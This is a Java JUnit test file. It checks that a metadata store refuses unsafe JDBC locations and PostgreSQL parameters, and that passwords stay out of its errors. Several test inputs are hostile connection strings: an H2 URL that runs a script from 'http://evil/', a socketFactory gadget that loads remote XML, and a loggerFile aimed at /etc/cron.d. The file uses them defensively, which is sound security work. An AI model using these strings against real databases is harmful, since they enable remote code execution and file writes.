package io.pergola.metadata;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Locations of stores, and what is refused of them (reliability.md, security). */
class StoreLocationTest {
  @TempDir Path folder;

  @Test
  void aPathAndItsJdbcUrlAreTheSameDatabase() {
    Path file = folder.resolve("a store.db");
    try (MetadataStore store = MetadataStore.open(file.toString())) {
      store.putType(MetadataType.artifact("Model"));
    }

    try (MetadataStore store = MetadataStore.open("jdbc:sqlite:" + file)) {
      assertThat(store.type(TypeKind.ARTIFACT, "Model")).isPresent();
    }
    assertThat(file).isRegularFile();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:sqlite::memory:",
        "jdbc:sqlite:",
        "jdbc:sqlite:x.db?enable_load_extension=true",
        "jdbc:sqlite:file:x.db",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/'",
        "jdbc:mysql://u:secret@host/db",
        "jdbc:"
      })
  void otherDatabasesAreRefused(String location) {
    assertThatThrownBy(() -> MetadataStore.open(location))
        .isInstanceOf(MetadataStoreException.class)
        .hasMessageStartingWith("Cannot open a metadata store of this kind: '")
        .hasMessageEndingWith(
            "'. Give a path, jdbc:sqlite:PATH without parameters, or"
                + " jdbc:postgresql://HOST[:PORT]/DATABASE.")
        .hasMessageNotContaining("secret");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "socketFactoryArg=http://evil/x.xml",
        "sslfactory=evil.Factory",
        "sslhostnameverifier=evil.Verifier",
        "sslpasswordcallback=evil.Callback",
        "authenticationPluginClassName=evil.Plugin",
        "xmlFactoryFactory=evil.Factory",
        "loggerFile=/etc/cron.d/x",
        "loggerLevel=TRACE",
        "options=-c%20synchronous_commit=off",
        "service=x",
        "USER=x",
        ""
      })
  void parametersBeyondTheListAreRefused(String parameter) {
    assertThatThrownBy(
            () ->
                MetadataStore.open(
                    "jdbc:postgresql://localhost/db?user=u&password=secret&" + parameter))
        .isInstanceOf(MetadataStoreException.class)
        .hasMessageStartingWith(
            "Cannot open a PostgreSQL database with the parameter '%s': it is not allowed. Use"
                    .formatted(parameter.replaceFirst("=.*", ""))
                + " ApplicationName, channelBinding,")
        .hasMessageNotContaining("secret");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql:db",
        "jdbc:postgresql://u:secret@host/db",
        "jdbc:postgresql://host/",
        "jdbc:postgresql://host/db;secret",
        "jdbc:postgresql://host/a/b?password=secret"
      })
  void addressesOfAnotherFormAreRefusedWithoutTheirPassword(String location) {
    assertThatThrownBy(() -> MetadataStore.open(location))
        .isInstanceOf(MetadataStoreException.class)
        .hasMessageContaining("jdbc:postgresql://HOST[:PORT]/DATABASE?user=NAME")
        .hasMessageNotContaining("secret");
  }

  @Test
  void aServerThatIsNotThereIsToldAtOnceAndWithoutThePassword() {
    long before = System.nanoTime();

    assertThatThrownBy(
            () -> MetadataStore.open("jdbc:postgresql://localhost:1/db?user=u&password=secret"))
        .isInstanceOf(MetadataStoreException.class)
        .hasMessageStartingWith("Cannot read PostgreSQL database 'db' at localhost:1: ")
        .hasMessageNotContaining("secret")
        .hasStackTraceContaining("Connection to localhost:1 refused")
        .satisfies(e -> assertThat(stackTrace(e)).doesNotContain("secret"));
    assertThat(Duration.ofNanos(System.nanoTime() - before)).isLessThan(Duration.ofSeconds(20));
  }

  private static String stackTrace(Throwable e) {
    java.io.StringWriter text = new java.io.StringWriter();
    e.printStackTrace(new java.io.PrintWriter(text));
    return text.toString();
  }

  @Test
  void aDatabaseThatIsNotThereIsNamed() {
    String location =
        EmbeddedPostgresServer.shared().freshDatabase().replaceFirst("/db[0-9]+", "/nothing");

    assertThatThrownBy(() -> MetadataStore.open(location))
        .isInstanceOf(MetadataStoreException.class)
        .hasMessageContaining("database \"nothing\" does not exist");
    assertThat(Files.exists(folder.resolve("nothing"))).isFalse();
  }
}
